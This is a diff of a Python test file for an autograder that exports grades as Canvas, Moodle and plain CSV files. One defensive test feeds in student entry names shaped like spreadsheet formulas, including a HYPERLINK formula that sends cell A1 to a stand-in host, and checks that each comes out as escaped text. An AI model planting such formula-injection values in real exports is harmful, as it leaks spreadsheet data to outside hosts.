@@ -10,10 +10,12 @@ import io
 import re
 from pathlib import Path
 from collections import Counter
+from types import SimpleNamespace
 
 import pytest
 
 from autograder.classroom import summary
+from autograder.course.class_report import EntryReport
 from autograder.classroom.exports import canvas_csv, moodle_csv
 
 
@@ -95,6 +97,14 @@ def test_written_files_and_printed_lines(klass, tmp_path):
     assert "lowest questions: q1" in shown
 
 
+LMS = SimpleNamespace(lms_name="Attention", max_score=100)  # what the LMS files read of a course
+
+
+def typed(reports: dict[str, dict]) -> dict[str, EntryReport]:
+    """The reports as the class's files read them."""
+    return {student: EntryReport.from_dict(found) for student, found in reports.items()}
+
+
 def _rows(data: bytes) -> list[list[str]]:
     return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
 
@@ -102,7 +112,7 @@ def _rows(data: bytes) -> list[list[str]]:
 def test_canvas_csv_is_canvas_gradebook_import_format(klass):
     """Canvas: Student, ID, SIS User ID, SIS Login ID, Section, then assignment columns; a Points Possible row; each row
     identified by ID, SIS User ID or SIS Login ID; a score is a number, or empty (left as it is)."""
-    rows = _rows(canvas_csv(klass, "Attention", 100))
+    rows = _rows(canvas_csv(LMS, typed(klass)))
     header, points, students = rows[0], rows[1], rows[2:]
     assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"] and header[5:] == ["Attention"]
     assert points[0] == "Points Possible" and points[1:5] == [""] * 4 and float(points[5]) == 100
@@ -116,7 +126,7 @@ def test_canvas_csv_is_canvas_gradebook_import_format(klass):
 def test_moodle_csv_is_moodle_grade_import_format(klass):
     """Moodle: a header row; one identifier column (username, email or idnumber) mapped to the user; grade columns of
     numbers, "" or "-" for no grade; every row has more than one field and a non-empty identifier."""
-    rows = _rows(moodle_csv(klass, "Attention"))
+    rows = _rows(moodle_csv(LMS, typed(klass)))
     header, students = rows[0], rows[1:]
     assert header[0] in ("username", "email", "idnumber") and header[1:] == ["Attention"]
     assert len(students) == 30 and all(len(row) == 2 and row[0] for row in students)
@@ -143,14 +153,14 @@ def test_the_summary_speaks_french(klass):
 def test_an_entry_named_like_a_formula_stays_text_in_every_spreadsheet(tmp_path):
     """A student who names their entry `=HYPERLINK(...)` (or +, -, @) gets a text cell in grades.csv, canvas.csv and
     moodle.csv, never a formula the instructor's spreadsheet would run."""
-    from autograder.classroom.batch import grades_csv
+    from autograder.classroom.exports import grades_csv
     from autograder.course.manifest import load_course
 
     names = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+1", "-2", "@SUM(A1)", "ann"]
-    reports = {name: report("right") for name in names}
+    reports = typed({name: report("right") for name in names})
     course = load_course(Path(__file__).resolve().parent.parent)
     cells = {"grades.csv": [row[0] for row in _rows(grades_csv(course, reports))[1:]],
-             "canvas.csv": [row[0] for row in _rows(canvas_csv(reports, "Attention", 100))[2:]],
-             "moodle.csv": [row[0] for row in _rows(moodle_csv(reports, "Attention"))[1:]]}
+             "canvas.csv": [row[0] for row in _rows(canvas_csv(LMS, reports))[2:]],
+             "moodle.csv": [row[0] for row in _rows(moodle_csv(LMS, reports))[1:]]}
     for file, column in cells.items():
         assert sorted(column) == sorted("'" + name if name != "ann" else name for name in names), (file, column)
